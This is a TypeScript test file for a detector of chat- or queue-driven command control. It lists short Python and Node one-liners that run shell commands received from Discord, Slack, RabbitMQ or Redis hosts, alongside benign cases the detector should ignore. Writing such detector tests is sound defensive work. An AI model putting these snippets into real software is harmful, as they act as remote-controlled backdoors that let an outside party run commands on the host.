import { blank, indicatorTable, runs, UNSEEN } from '../testing.ts';
import { commandChatControl } from './chat-control.ts';

const python = (...lines: readonly string[]) => runs('python3', '-c', lines.join('\n'));

indicatorTable(commandChatControl, {
  fires: {
    'a queue of somebody with a name': python(
      'import pika, subprocess',
      "q = pika.BlockingConnection(pika.URLParameters('amqps://a:b@rabbit.example.org/v')).channel()",
      "for m, p, body in q.consume('in'):",
      '    subprocess.getoutput(body.decode())',
    ),
    'a bot of Discord': python(
      'import discord, subprocess',
      'c = discord.Client()',
      '@c.event',
      'async def on_message(m):',
      '    await m.channel.send(subprocess.getoutput(m.content[3:]))',
      "c.run('t')",
    ),
    'the history of a channel': python(
      'import subprocess',
      'from slack_sdk import WebClient',
      "for m in WebClient(token='t').conversations_history(channel='c')['messages']:",
      "    subprocess.run(m['text'][4:], shell=True)",
    ),
    'a bot in JavaScript': runs(
      'node',
      '-e',
      "const {Client}=require('discord.js');const {exec}=require('child_process');const c=new Client({});c.on('messageCreate',m=>exec(m.content.slice(1)));c.login('t')",
    ),
    'a queue on an address of the internet': python(
      'import redis, os',
      "r = redis.Redis(host='203.0.113.70')",
      'while True:',
      "    _, c = r.blpop('q')",
      '    os.popen(c.decode())',
    ),
  },
  staysSilent: {
    'a queue of somebody whose messages are data': python(
      'import pika, json',
      "q = pika.BlockingConnection(pika.URLParameters('amqps://a:b@rabbit.example.org/v')).channel()",
      "for m, p, body in q.consume('in'):",
      "    print(json.loads(body)['id'])",
    ),
    'a queue of the cluster whose messages are run': python(
      'import pika, subprocess',
      "q = pika.BlockingConnection(pika.URLParameters('amqp://a:b@rabbit.jobs.svc/v')).channel()",
      "for m, p, body in q.consume('in'):",
      '    subprocess.getoutput(body.decode())',
    ),
    'a bot that does a fixed thing': python(
      'import subprocess',
      'from slack_sdk import WebClient',
      "for m in WebClient(token='t').conversations_history(channel='c')['messages']:",
      "    if m['text'] == 'restart':",
      "        subprocess.run(['kubectl', 'rollout', 'restart', 'deploy/web'])",
    ),
    'a bot that only says something': python('import telebot', "telebot.TeleBot('t').send_message(1, 'done')"),
    'a queue of the cluster': python(
      'import redis, os',
      "r = redis.Redis(host='redis')",
      "_, c = r.blpop('q')",
      'os.popen(c.decode())',
    ),
    'a value of its code, and no chat': python('import os, sys', 'os.system(sys.stdin.readline())'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
